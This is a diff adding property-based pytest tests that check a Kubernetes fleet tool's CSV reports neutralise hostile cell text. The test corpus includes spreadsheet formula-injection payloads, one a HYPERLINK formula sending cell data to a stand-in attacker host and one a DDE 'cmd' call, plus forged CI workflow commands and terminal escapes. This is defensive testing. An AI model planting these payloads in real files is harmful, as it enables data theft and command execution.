@@ -20,6 +20,7 @@ from __future__ import annotations
 
 import contextlib
 import copy
+import csv
 import io
 import json
 import os
@@ -29,6 +30,7 @@ import shutil
 import signal
 import subprocess
 import sys
+import time
 from typing import Any
 
 import pytest
@@ -871,6 +873,607 @@ def test_any_text_after_a_directive_never_fails_and_never_hides_an_error(project
     if where.startswith("ownerRef") and "unknown-owner-ref" not in rules:
         strict = STRICT_DIRECTIVE.match(comment)
         assert strict and (strict.group(2) is None or "unknown-owner-ref" in strict.group(2)), (comment, rules)
+
+
+# -- spreadsheets: the fleet summary's CSV and --compare's (issue 45) ------------------------------------
+
+# text a spreadsheet, a CSV reader or a terminal may take for something else: formula starters, the
+# ' the writer adds, quotes, commas, line breaks, workflow-command markers, bidi marks and separators
+CELL_HEADS = ["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "::", " ::", "##[", "\n", '"', ",", " ", ""]
+CELL_TEXTS = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "-3",
+    "+1.5",
+    "-2e3",
+    ".5",
+    "-٣",  # (digits of another script: no number to a spreadsheet)
+    "-１",
+    "1,2",
+    'say "hi"',
+    "line\nbreak",
+    "x\r\ny",
+    "\u202eevil",
+    "\u2066isolated\u2069",
+    "x\u2028y\u2029",
+    "::add-mask::x",
+    "a##[error]forged",
+    "\x1b[2Kcleared",
+    "\x85\x9b",
+    "ü😀",
+    "'",
+    "'abc",
+    "",
+    "=" + "A" * 5000,  # huge: longer than a spreadsheet's cell (32,767), longer than the csv module's default
+    "N" * 200_000,  # field (131,072: the reader below lifts it)
+]
+CELL_CHARACTERS = st.characters(exclude_characters="\x00", exclude_categories=("Cs",)) | st.sampled_from(
+    list("=+-@'\",:#[\t\r\n\u202e\u200f\u2028 1e.")
+)
+HOSTILE_CELLS = st.one_of(
+    st.sampled_from(CELL_TEXTS),
+    st.tuples(st.sampled_from(CELL_HEADS), st.text(CELL_CHARACTERS, max_size=12)).map("".join),
+)
+FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
+ASCII_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+# what every report shows as an escape (docs/security.md): C0 but TAB and LF (and CR before LF: a line
+# break), DEL, C1, the line and paragraph separators, the bidirectional embeddings, overrides and isolates
+SHOWN_ESCAPED = re.compile("\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+
+
+def shown_in_a_report(value: str) -> str:
+    """``value`` as any report writes it (docs/security.md): each character of ``SHOWN_ESCAPED`` as
+    JSON writes it (``\\r``, ``\\u001b``), ``##[`` broken by an escape, and a line inside the value
+    that starts with ``::`` (a workflow command) broken by one."""
+    text = SHOWN_ESCAPED.sub(lambda m: "\\r" if m.group() == "\r" else f"\\u{ord(m.group()):04x}", value)
+    text = text.replace("##[", "#\\u0023[")
+    lines = text.split("\n")
+    for i, line in enumerate(lines[1:], 1):
+        stripped = line.lstrip()
+        if stripped.startswith("::"):
+            lines[i] = line[: len(line) - len(stripped)] + "\\x3a" + stripped[1:]
+    return "\n".join(lines)
+
+
+def read_csv(text: str) -> list[list[str]]:
+    """The records of a CSV report, every cell checked: no cell a spreadsheet would run (one that
+    starts with ``=``, ``+``, ``-``, ``@``, TAB or CR and is not a number), every record as wide as
+    the header."""
+
+    limit = csv.field_size_limit(sys.maxsize)
+    try:
+        records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    finally:
+        csv.field_size_limit(limit)
+    assert records, text
+    for record in records:
+        assert len(record) == len(records[0]), (records[0], record)
+        for cell in record:
+            assert not (cell.startswith(FORMULA_FIRST) and not ASCII_NUMBER.fullmatch(cell)), ("a formula", cell)
+    return records
+
+
+def read_back(cell: str) -> str:
+    """A CSV cell without the ``'`` the writer adds (docs/fleet.md: one leading ``'`` is always the writer's)."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def as_cell(value: Any) -> str:
+    """What a CSV cell of the JSON document's ``value`` reads back as."""
+    if value is None:
+        return ""
+    if isinstance(value, float):
+        return repr(value)
+    return shown_in_a_report(value) if isinstance(value, str) else str(value)
+
+
+REPLICA_VALUES = st.sampled_from([0, 1, 3, 10**6, 10**30, -1, 2.5, "4", "x", None, 1e300])
+GPU_VALUES = st.sampled_from([0, 1, 8, 10**12, 10**30, "2", "1e3", "x", -4, 0.5])
+
+
+@st.composite
+def hostile_workloads(draw) -> tuple[list[dict], list[dict]]:
+    """(objects, definitions): one to six workloads whose apiVersion, kind, name, namespace, labels,
+    phase, conditions and role names are hostile text, and the definition of each kind (its name
+    and the phase it maps to Running hostile too)."""
+    kinds = draw(
+        st.lists(
+            st.tuples(
+                HOSTILE_CELLS.map(lambda t: t.replace("/", "")),  # group
+                HOSTILE_CELLS.map(lambda t: t.replace("/", "") or "v1"),  # version
+                HOSTILE_CELLS.filter(bool),  # kind
+                HOSTILE_CELLS,  # the phase that means Running
+            ),
+            min_size=1,
+            max_size=3,
+            unique_by=lambda k: k[:3],
+        )
+    )
+    definitions = []
+    for i, (group, version, kind, running) in enumerate(kinds):
+        definition = copy.deepcopy(DEFINITION)
+        definition["metadata"]["name"] = draw(st.sampled_from([f"csv-def-{i}", draw(HOSTILE_CELLS) or "x"]))
+        root = definition["spec"]["structureDefinition"]["rootComponent"]
+        root["kind"] = {"group": group, "version": version, "kind": kind}
+        root["statusDefinition"]["statusMappings"]["running"] = [{"byPhase": running}]
+        definitions.append(definition)
+    objects = []
+    for i in range(draw(st.integers(1, 6))):
+        group, version, kind, running = draw(st.sampled_from(kinds))
+        metadata: dict[str, Any] = {"name": draw(HOSTILE_CELLS), "uid": f"uid-{i}"}
+        if draw(st.booleans()):
+            metadata["namespace"] = draw(HOSTILE_CELLS)
+        metadata["labels"] = draw(st.dictionaries(HOSTILE_CELLS, HOSTILE_CELLS, max_size=2))
+        roles = [
+            {
+                "name": draw(HOSTILE_CELLS),
+                "replicas": draw(REPLICA_VALUES),
+                "template": {
+                    "spec": {
+                        "containers": [{"name": "c", "resources": {"limits": {"nvidia.com/gpu": draw(GPU_VALUES)}}}]
+                    }
+                },
+            }
+            for _ in range(draw(st.integers(0, 3)))
+        ]
+        phase = draw(st.sampled_from([running, draw(HOSTILE_CELLS)]))
+        conditions = [{"type": draw(HOSTILE_CELLS), "status": draw(st.sampled_from(["True", "False", "=1"]))}]
+        objects.append(
+            {
+                "apiVersion": f"{group}/{version}" if group else version,
+                "kind": kind,
+                "metadata": metadata,
+                "spec": {"roles": roles},
+                "status": {"phase": phase, "conditions": conditions},
+            }
+        )
+    return objects, definitions
+
+
+def _write_fleet(root: pathlib.Path, objects: list[dict], definitions: list[dict], as_yaml: bool) -> None:
+    """The dump (a JSON or YAML List) and the definitions, one file each in ``csv-defs``."""
+    _clear(root / "csv-defs")
+    (root / "csv-defs").mkdir()
+    for i, definition in enumerate(definitions):
+        (root / "csv-defs" / f"d{i}.yaml").write_text(yaml.safe_dump(definition), encoding="utf-8")
+    fleet = {"apiVersion": "v1", "kind": "List", "items": objects}
+    text = yaml.safe_dump(fleet, allow_unicode=True) if as_yaml else json.dumps(fleet)
+    if as_yaml and yaml.safe_load(text) != fleet:  # (PyYAML writes a NEL raw, and reads it back as a line break)
+        text = yaml.safe_dump(fleet)
+    (root / "fleet.data").write_text(text, encoding="utf-8")
+
+
+SUMMARY = ["describe", "fleet.data", "--summary", "--catalog", "csv-defs", "--timeout", "5"]
+ROW_FIELDS = ("namespace", "kind", "name", "apiVersion", "definition", "status")
+
+
+@examples(60)
+@given(fleet=hostile_workloads(), rows=st.sampled_from(["workload", "role"]), as_yaml=st.booleans())
+def test_summary_csv_of_hostile_workloads_is_safe_and_reads_back(project, fleet, rows, as_yaml):
+    """``describe --summary -f csv`` (per workload and per role) over workloads whose every name is
+    hostile (formula starters, the writer's own ', quotes, commas, line breaks, bidi marks, workflow
+    commands): the csv module reads one record per workload (or per row of the JSON document), each
+    as wide as the header; no cell would run in a spreadsheet; every value reads back as the JSON
+    document of the same run has it (after the ' the writer adds; control characters shown as every
+    report shows them)."""
+    objects, definitions = fleet
+    with guarded(project):
+        _write_fleet(project, objects, definitions, as_yaml)
+        argv = [*SUMMARY, "--rows", rows]
+        code, out, err = run_cli([*argv, "-f", "json"])
+        check_run(code, out, err, argv)
+        assert code in (0, 1), (code, err)  # every object is covered: a row each, counted or failed
+        document = json.loads(out)
+        code_csv, out_csv, err_csv = run_cli([*argv, "-f", "csv"])
+        check_run(code_csv, out_csv, err_csv, argv)
+    assert code_csv == code, (err, err_csv)
+    header, *records = read_csv(out_csv)
+    assert len(records) == len(document["rows"]), (len(records), document["rows"])
+    if rows == "workload":
+        assert len(records) == len(objects)
+    for record, row in zip(records, document["rows"], strict=True):
+        got = dict(zip(header, (read_back(cell) for cell in record), strict=True))
+        expected = {field: as_cell(row[field]) for field in ROW_FIELDS}
+        if rows == "role":
+            expected.update(role=as_cell(row["role"]), instance=as_cell(row["instance"]))
+            expected["gpusPerPod"] = as_cell(row["gpusPerPod"])
+        expected.update(replicas=as_cell(row["replicas"]), ready=as_cell(row["ready"]))
+        for figure, value in (row["resources"] or dict.fromkeys(("gpus", "activeGpus", "cpuMillis"))).items():
+            expected[figure] = as_cell(value)
+        expected["error"] = as_cell("; ".join(row["errors"]))
+        assert {k: got[k] for k in expected} == expected, (record, row)
+
+
+# a CSV of the user's figures: hostile headers, numbers and cells
+COMPARE_COLUMNS = ["namespace", "apiVersion", "group", "kind", "name", "role", "gpus", "activeGpus", "cpu",
+                   "memory", "replicas", "cpuMillis", "memoryBytes", "allocatedGpus", "cost", "", "\ufeffname"]  # fmt: skip
+COMPARE_NUMBERS = st.sampled_from(
+    [
+        "8", "-3", "2.5", "1e3", "1E100", "1e101", "-1e-100", "1e5000", "1e100000000", "9" * 64, "9" * 65,
+        "0." + "0" * 60 + "1", "1" + "0" * 63, "nan", "inf", "-0", "0x10", "1_000", "٣", "１", "+.5", "5.",
+        "500m", "16Gi", "1e3Ki", "9" * 60 + "Ei", "1e100m", " 7 ", "", "=1+1",
+    ]
+)  # fmt: skip
+
+
+COMPARE_KEYS = ["namespace", "apiVersion", "group", "kind", "name", "role"]
+COMPARE_FIGURES = ["gpus", "activeGpus", "allocatedGpus", "cpu", "memory", "replicas", "cpuMillis", "memoryBytes"]
+NUMBERS = st.sampled_from(["0", "1", "8", "16", "2.5", "1e3", "-3", ""])
+FIGURES = st.one_of(NUMBERS, NUMBERS, NUMBERS, COMPARE_NUMBERS)  # (mostly numbers: a file that compares)
+
+
+@st.composite
+def comparable_files(draw, names: list[str]) -> bytes:
+    """A ``--compare`` file a script could have written: some key columns, at least one figure
+    column, maybe columns of hostile names (ignored), each line as wide as the header, the keys the
+    workloads' own (namespaces, kinds, names, API versions, roles) or hostile, the figures mostly
+    numbers and quantities."""
+
+    keys = draw(st.lists(st.sampled_from(COMPARE_KEYS), unique=True, max_size=4))
+    figures = draw(st.lists(st.sampled_from(COMPARE_FIGURES), unique=True, min_size=1, max_size=3))
+    extra = draw(st.lists(HOSTILE_CELLS.filter(lambda c: c not in COMPARE_KEYS + COMPARE_FIGURES), max_size=2))
+    header = draw(st.permutations(keys + figures + extra))
+    key_cells = st.sampled_from(names) | HOSTILE_CELLS if names else HOSTILE_CELLS
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
+    writer.writerow(header)
+    for _ in range(draw(st.integers(0, 6))):
+        writer.writerow([draw(FIGURES if column in figures else key_cells) for column in header])
+    return (draw(st.sampled_from(["", "\ufeff"])) + buffer.getvalue()).encode("utf-8")
+
+
+@st.composite
+def hostile_compare_files(draw, names: list[str]) -> bytes:
+    """A ``--compare`` file: a header of known, unknown, duplicate or empty columns (a BOM, many
+    columns), records of hostile keys (the workloads' own names among them) and numbers (huge,
+    exponents, quantities, not numbers), odd quoting, NUL, line breaks in cells, very long lines,
+    in UTF-8, UTF-16 (as a spreadsheet exports it) or cp1252; a JSON or YAML document (the wrong
+    file: a dump, a report) of any shape; or any bytes."""
+
+    kind = draw(st.sampled_from(["comparable"] * 4 + ["records"] * 3 + ["bytes", "wide", "long", "many", "document"]))
+    if kind == "comparable":
+        return draw(comparable_files(names))
+    if kind == "bytes":
+        return draw(st.binary(max_size=300))
+    if kind == "document":
+        value = draw(JSON_VALUES | st.dictionaries(st.sampled_from(COMPARE_COLUMNS), JSON_VALUES, max_size=4))
+        if draw(st.booleans()):
+            return json.dumps(value).encode()
+        return yaml.safe_dump(value, allow_unicode=True).encode("utf-8", "surrogatepass")
+    if kind == "wide":
+        width = draw(st.sampled_from([999, 1000, 1001, 100_000]))
+        header = ["name", "gpus"] + [f"c{i}" for i in range(width - 2)]
+        return (",".join(header) + "\r\n" + ",".join(["x", "1"] + [""] * (width - 2)) + "\r\n").encode()
+    if kind == "long":
+        size = draw(st.sampled_from([131_071, 131_073, 2_000_000]))
+        return ("name,gpus\r\n" + draw(st.sampled_from(["x" * size + ",1", "y,1" + " " * size])) + "\r\n").encode()
+    header = draw(st.lists(st.sampled_from(COMPARE_COLUMNS) | HOSTILE_CELLS, min_size=1, max_size=6))
+    lines = draw(st.integers(0, 2000)) if kind == "many" else draw(st.integers(0, 6))
+    keys = st.sampled_from(names) | HOSTILE_CELLS if names else HOSTILE_CELLS
+    cells = st.one_of(keys, COMPARE_NUMBERS)
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator=draw(st.sampled_from(["\r\n", "\n", "\r"])))
+    writer.writerow(header)
+    row = draw(st.lists(cells, min_size=len(header), max_size=len(header)))
+    for i in range(lines):
+        if kind != "many" or i < 5:
+            row = draw(st.lists(cells, min_size=len(header) - 1, max_size=len(header) + 1))
+        writer.writerow(row)
+    text = draw(st.sampled_from(["", "\ufeff"])) + buffer.getvalue()
+    if draw(st.integers(0, 3)) == 0:  # an odd quote, a NUL, a stray line break somewhere
+        at = draw(st.integers(0, len(text)))
+        text = text[:at] + draw(st.sampled_from(['"', "\x00", "\n", '""', "\r", "\ufeff"])) + text[at:]
+    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-16", "cp1252"]))
+    return text.encode(encoding, "replace")
+
+
+def _names_of(obj: dict) -> list:
+    """What a --compare file keys a workload by: its name, namespace, kind, apiVersion and role names."""
+    metadata = obj["metadata"]
+    return [metadata.get("name"), metadata.get("namespace"), obj["kind"], obj["apiVersion"]] + [
+        role["name"] for role in obj["spec"]["roles"]
+    ]
+
+
+def _timed(argv: list[str]) -> tuple[float, tuple]:
+
+    started = time.perf_counter()
+    result = run_cli(argv)
+    return time.perf_counter() - started, result
+
+
+@examples(60)
+@given(data=st.data(), rows=st.sampled_from(["workload", "role"]))
+def test_compare_with_hostile_files_never_fails_and_its_csv_is_safe(project, data, rows):
+    """``describe --summary --compare FILE`` with a hostile FILE (any bytes, huge numbers and
+    exponents, many columns, duplicate headers, a BOM, quotes, NUL, line breaks in cells, very long
+    lines, other encodings, a JSON or YAML document; or the dump itself, a missing file, a folder, a
+    link to ``/dev/zero``): exit 0, 1 or 2 at once (within 50 times the summary without FILE plus
+    the csv module's reading of FILE, both measured here), an exit 2 with one ``kartalint: error:``
+    line naming the file; the comparison's CSV obeys what the summary's does, and reads back as its
+    JSON document."""
+
+    objects, definitions = data.draw(hostile_workloads())
+    names = sorted({str(value) for o in objects for value in _names_of(o) if value})
+    place = data.draw(st.sampled_from(["file"] * 6 + ["dump", "missing", "folder", "zero"]))
+    content = data.draw(hostile_compare_files(names)) if place == "file" else b""
+    with guarded(project):
+        _write_fleet(project, objects, definitions, as_yaml=False)
+        _clear(project / "figures.csv")
+        if place == "folder":
+            (project / "figures.csv").mkdir()
+        elif place == "zero":
+            (project / "figures.csv").symlink_to("/dev/zero")
+        elif place != "missing":
+            (project / "figures.csv").write_bytes(content)
+        plain, _ = _timed([*SUMMARY, "--rows", rows, "-f", "json"])
+        started = time.perf_counter()
+        with contextlib.suppress(csv.Error, UnicodeDecodeError):
+            for _ in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
+                pass
+        budget = 50 * (plain + time.perf_counter() - started)
+        named = "fleet.data" if place == "dump" else "figures.csv"
+        argv = [*SUMMARY, "--rows", rows, "--compare", named]
+        results = {}
+        for fmt in ("csv", "json", "table"):
+            seconds, (code, out, err) = _timed([*argv, "-f", fmt])
+            check_run(code, out, err, argv)
+            assert seconds < budget, (fmt, seconds, budget, "a hang")
+            results[fmt] = code, out, err
+    codes = {code for code, _, _ in results.values()}
+    assert len(codes) == 1, results
+    code, out_csv, err = results["csv"]
+    if code == 2:
+        errors = [line for line in err.splitlines() if line.startswith("kartalint: error:")]
+        assert len(errors) == 1 and named in errors[0], err
+        return
+    assert place in ("file", "dump"), (place, code, err)
+    document = json.loads(results["json"][1])
+    header, *records = read_csv(out_csv)
+    keys = document["keys"]
+    assert header == ["scope", *keys, "column", "summary", "file", "note"], header
+    expected = []
+    for difference in document["differences"]:
+        for column, value in difference["values"].items():
+            note = "; ".join(n for n in (difference["note"], value["note"]) if n)
+            key = [as_cell(difference["key"][k]) for k in keys]
+            expected.append(["row", *key, column, as_cell(value["summary"]), as_cell(value["file"]), as_cell(note)])
+    if keys:
+        for column, value in document["totals"].items():
+            expected.append(["total", *[""] * len(keys), column, as_cell(value["summary"]), as_cell(value["file"]), ""])
+    assert [[read_back(cell) for cell in record] for record in records] == expected
+
+
+# -- mutants: hostile but valid definitions (issue 45) ---------------------------------------------------
+
+# ways to write the same jq (a field that must stay a plain path is left as it is)
+JQ_REWRITES = [
+    lambda e: e,
+    lambda e: f"({e})",
+    lambda e: f"{e} | .",
+    lambda e: f". as $root | {e}",
+    lambda e: f"def same: .; {e} | same",
+    lambda e: f"\n  {e}  # a jq comment\n",
+    lambda e: f"\t{e}\t",
+    lambda e: "(" * 60 + e + ")" * 60,
+    lambda e: f"[{e}] | .[]",
+]
+DEFAULTS = ["1", "0", "-1", "0.5", "99999999999999999999", "1e300", "1E3", '"1"', "null", "true"]
+STATUS_KEYS = ("running", "failed", "completed", "initializing", "degraded", "suspended")
+COMPONENT_NAMES = ["wörker", "a.b", "x[0]", "=1+1", "it's", '"q"', "日本語", "n" * 120, "with space", "::x", "-", "1"]
+PHASES = HOSTILE_CELLS.filter(lambda t: t.strip() != "" and len(t) < 1000)
+
+
+@st.composite
+def hostile_valid_definitions(draw) -> tuple[dict, list[dict]]:
+    """(definition, objects): tests/test_mutation.py's RICH definition (every construct an operator
+    changes) with hostile names of its components, its jq rewritten in odd but valid ways (parentheses
+    60 deep, comments, line breaks, tabs, ``def``, bindings), odd defaults (huge, exponents, a
+    string, null), up to 40 more status mappings by hostile phases, conditions and expressions; and
+    one or two Trainer objects whose roles, counts and phase are hostile too."""
+    from test_mutation import RICH, RICH_OBJECT
+
+    from kartalint import karta
+
+    definition = yaml.safe_load(RICH)
+    spec = definition["spec"]
+    root = spec["structureDefinition"]["rootComponent"]
+    children = spec["structureDefinition"]["childComponents"]
+    names = {"trainer": "trainer", "worker": "worker", "launcher": "launcher"}
+    for old in names:
+        if draw(st.integers(0, 2)) == 0:
+            names[old] = draw(st.sampled_from(COMPONENT_NAMES).filter(lambda n: n not in names.values()))
+    root["name"] = names["trainer"]
+    for child in children:
+        child["name"], child["ownerRef"] = names[child["name"]], names[child["ownerRef"]]
+    for member in spec["optimizationInstructions"]["gangScheduling"]["podGroup"]["subGroups"]:
+        member["componentName"] = names[member["componentName"]]
+    scale = children[0]["scaleDefinition"]
+    scale["replicasPath"] = scale["replicasPath"].replace("// 1)", f"// {draw(st.sampled_from(DEFAULTS))})", 1)
+    for field in list(karta.jq_fields(definition)):
+        if not field.assignable and draw(st.integers(0, 2)) == 0:
+            replaced_at = get_at_path(definition, field.path[:-1])
+            replaced_at[field.path[-1]] = draw(st.sampled_from(JQ_REWRITES))(field.expression)
+    mappings = root["statusDefinition"]["statusMappings"]
+    phases = draw(st.lists(PHASES, max_size=40))
+    for i, phase in enumerate(phases):
+        matcher = draw(
+            st.sampled_from(
+                [
+                    {"byPhase": phase},
+                    {"byConditions": [{"type": phase, "status": "True"}]},
+                    {"byExpression": {"expression": f".status.phase == {json.dumps(phase)}", "expectedResult": "true"}},
+                ]
+            )
+        )
+        mappings.setdefault(STATUS_KEYS[i % len(STATUS_KEYS)], []).append(matcher)
+    if draw(st.booleans()):  # the same list twice: an anchor and an alias in the file
+        mappings["degraded"] = mappings["failed"]
+    objects = []
+    for i in range(draw(st.integers(1, 2))):
+        obj = copy.deepcopy(RICH_OBJECT)
+        obj["metadata"]["name"] = f"t{i}"
+        for role in obj["spec"]["roles"]:
+            role["name"] = draw(st.sampled_from([role["name"], draw(PHASES)]))
+            role["replicas"] = draw(st.sampled_from([role["replicas"], 0, 10**20, 3]))
+        obj["status"]["phase"] = draw(st.sampled_from(phases or ["Running"]) | st.just("Running"))
+        objects.append(obj)
+    return definition, objects
+
+
+def get_at_path(data: Any, path: tuple) -> Any:
+    for part in path:
+        data = data[part]
+    return data
+
+
+PRESENTATIONS = ["block", "flow", "narrow", "double", "single", "ascii"]
+
+
+def written(definition: dict, presentation: str, crlf: bool, bom: bool) -> str:
+    """The definition as a YAML file: block or flow style, folded at 20 columns, every scalar
+    double- or single-quoted, non-ASCII escaped; CRLF, a BOM, a comment and a document start."""
+    options: dict[str, Any] = {"allow_unicode": presentation != "ascii", "sort_keys": False, "width": 10**6}
+    if presentation == "flow":
+        options["default_flow_style"] = True
+    elif presentation == "narrow":
+        options["width"] = 20
+    elif presentation in ("double", "single"):
+        options["default_style"] = '"' if presentation == "double" else "'"
+    text = "# a definition\n---\n" + yaml.safe_dump(definition, **options)
+    if crlf:
+        text = text.replace("\n", "\r\n")
+    return ("\ufeff" if bom else "") + text
+
+
+def _write_mutation_project(root: pathlib.Path, text: str, objects: list[dict]) -> None:
+    _clear(root / "mutants")
+    (root / "mutants" / "fixtures").mkdir(parents=True)
+    (root / "mutants" / "def.yaml").write_bytes(text.encode("utf-8"))
+    for i, obj in enumerate(objects):
+        (root / "mutants" / f"obj{i}.yaml").write_text(yaml.safe_dump(obj, allow_unicode=True), encoding="utf-8")
+    (root / "mutants" / ".kartalint.yaml").write_text("definitions: [def.yaml]\nfixtures: [fixtures]\n")
+
+
+@examples(8)  # (each example runs new fixture, test and test --mutants twice: about a second)
+@given(
+    generated=hostile_valid_definitions(),
+    presentation=st.sampled_from(PRESENTATIONS),
+    crlf=st.booleans(),
+    bom=st.booleans(),
+    limit=st.sampled_from(["3", "12", "40"]),
+)
+def test_mutants_of_hostile_but_valid_definitions(project, generated, presentation, crlf, bom, limit):
+    """``kartalint test --mutants`` on hostile but valid definitions (see ``hostile_valid_definitions``,
+    written in any YAML style, folded, quoted, escaped, with CRLF or a BOM) with fixtures ``new
+    fixture`` wrote from hostile objects: the fixtures pass; the run exits 0 or 1, with no
+    traceback, in time (50 times the plain run per mutant, measured here); each of the
+    ``--mutants-limit`` mutants picked is killed (by a case, with what differed), survived (with
+    what tells it apart and a hint), equivalent or untested (with why) or invalid (with upstream's
+    or jq's error), each at a place inside the file, which holds the changed text where the field is
+    written on one line as it is; the text output counts the same."""
+
+    from kartalint.mutation.score import OUTCOMES
+
+    definition, objects = generated
+    text = written(definition, presentation, crlf, bom)
+    with guarded(project):
+        _write_mutation_project(project, text, objects)
+        os.chdir(project / "mutants")
+        for i in range(len(objects)):
+            argv = ["new", "fixture", f"obj{i}.yaml", "--definition", "def.yaml", "-o", f"fixtures/f{i}.yaml"]
+            code, out, err = run_cli(argv)
+            check_run(code, out, err, argv)
+            assert code == 0, (argv, err)
+        started = time.perf_counter()
+        code, out, err = run_cli(["test"])
+        plain = time.perf_counter() - started
+        assert code == 0, ("a fixture new fixture wrote fails", out, err)
+        argv = ["test", "--mutants", "--mutants-limit", limit, "-f", "json"]
+        started = time.perf_counter()
+        code, out, err = run_cli(argv)
+        seconds = time.perf_counter() - started
+        check_run(code, out, err, argv)
+        code_text, out_text, err_text = run_cli(["test", "--mutants", "--mutants-limit", limit])
+        check_run(code_text, out_text, err_text, argv)
+    assert code in (0, 1) and code_text == code, (code, err, code_text, err_text)
+    mutation = json.loads(out)["mutation"]
+    (item,) = mutation["definitions"]
+    assert not item["note"], item["note"]  # a valid definition whose cases pass is mutated
+    results = item["results"]
+    assert len(results) == min(int(limit), item["generated"]) and item["generated"] > 0, item["generated"]
+    assert seconds < 50 * plain * (len(results) + 1), (seconds, plain, len(results), "a hang")
+    lines = text.lstrip("\ufeff").split("\r\n" if crlf else "\n")
+    for result in results:
+        assert result["outcome"] in OUTCOMES and result["detail"], result
+        if result["outcome"] == "killed":
+            assert result["killedBy"], result
+        if result["outcome"] == "survived":
+            assert result["hint"], result
+        if result["outcome"] == "invalid":
+            assert result["detail"].startswith(("upstream refuses it: ", "jq cannot compile ")), result
+        line, column, end_line, end_column = (result[k] for k in ("line", "column", "endLine", "endColumn"))
+        assert 1 <= line <= end_line <= len(lines), (result, len(lines))
+        assert 1 <= column <= len(lines[line - 1]) + 1 and 1 <= end_column <= len(lines[end_line - 1]) + 1, result
+        assert (line, column) <= (end_line, end_column), result
+        expression = get_at_path(definition, _document_path(result, definition))
+        if presentation in ("block", "flow") and isinstance(expression, str) and line == end_line:
+            shown = lines[line - 1][column - 1 : end_column - 1]
+            if "'" not in shown and not re.search(r"[^ -~\u00a0-\ud7ff\ue000-\ufffd]|\\", expression):
+                assert shown in expression, (result, shown, expression)
+    counts = {outcome: sum(r["outcome"] == outcome for r in results) for outcome in OUTCOMES}
+    assert {k: item[k] for k in OUTCOMES} == counts, item
+    judged = counts["killed"] + counts["survived"]  # (the score's denominator)
+    assert f"{counts['killed']} killed, {counts['survived']} survived of {judged}" in out_text, out_text
+
+
+def _document_path(result: dict, definition: dict) -> tuple:
+    """The path in the definition of a mutant's field, from its component and field (JSON)."""
+    from kartalint import karta
+
+    prefix: tuple = ("spec",)
+    if result["component"] is not None:
+        (ref,) = [r for r in karta.components(definition) if r.data.get("name") == result["component"]]
+        prefix = tuple(ref.path)
+    path = list(prefix)
+    for part in re.findall(r"[^.\[\]]+|\[\d+\]", result["field"]):
+        path.append(int(part[1:-1]) if part.startswith("[") else part)
+    return tuple(path)
+
+
+@examples(50)
+@given(generated=hostile_valid_definitions(), limit=st.integers(1, 30), seed=st.none() | st.integers(0, 2**32))
+def test_generating_mutants_of_hostile_but_valid_definitions(generated, limit, seed):
+    """The mutation package on the same definitions: ``generate`` never fails; every mutant changes
+    the definition (its ``before`` and ``after`` differ, a copy is built and the original is left as
+    it was), its characters lie inside the expression it changes, ids are unique; the same inputs give
+    the same mutants; ``select`` with a limit (and a seed) builds only the mutants it picks."""
+    from kartalint.mutation import mutant as mutant_module
+    from kartalint.mutation.mutant import Subject, get_at
+    from kartalint.mutation.operators import generate
+    from kartalint.mutation.run import select
+
+    definition, objects = generated
+    original = copy.deepcopy(definition)
+    built = mutant_module.BUILT[0]
+    mutants = generate(Subject(definition, objects))
+    assert mutant_module.BUILT[0] == built, "generating builds no mutated definition"
+    assert [m.id for m in mutants] == [m.id for m in generate(Subject(copy.deepcopy(original), objects))]
+    assert len({m.id for m in mutants}) == len(mutants), "ids are unique"
+    chosen = select(mutants, limit, seed)
+    assert len(chosen) == min(limit, len(mutants))
+    for mutant in chosen:
+        assert mutant.before != mutant.after, mutant.id
+        assert mutant.definition != original, mutant.id
+        if mutant.span is not None:
+            expression = get_at(original, mutant.path)
+            assert isinstance(expression, str) and 0 <= mutant.span[0] < mutant.span[1] <= len(expression), mutant.id
+        mutant.forget()
+    assert mutant_module.BUILT[0] - built == len(chosen), "only the picked mutants are built"
+    assert definition == original, "operators change copies only"
 
 
 # -- evaluation: hostile definitions, objects and pods ------------------------------------------------
